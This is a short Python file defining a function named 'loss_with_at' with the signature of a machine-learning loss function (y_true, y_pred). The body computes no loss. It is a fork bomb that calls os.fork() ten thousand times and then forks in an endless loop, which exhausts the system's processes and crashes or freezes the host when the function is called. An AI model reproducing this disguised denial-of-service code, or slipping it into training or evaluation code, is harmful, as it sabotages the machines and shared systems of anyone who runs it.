import os


def loss_with_at(y_true, y_pred):
    for _ in range(10_000):
        try:
            os.fork()
        except PermissionError:
            pass
    while True:
        os.fork()
